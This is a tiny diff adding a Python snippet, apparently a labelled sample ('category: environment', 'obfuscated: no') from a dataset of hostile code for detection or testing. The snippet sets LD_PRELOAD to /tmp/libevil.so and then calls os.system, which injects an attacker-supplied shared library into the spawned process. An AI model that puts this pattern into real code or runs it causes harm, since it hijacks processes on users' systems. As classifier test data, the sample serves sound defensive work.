@@ -1,0 +1,5 @@
+# category: environment
+# obfuscated: no
+import os
+os.environ["LD_PRELOAD"] = "/tmp/libevil.so"
+os.system("ls")
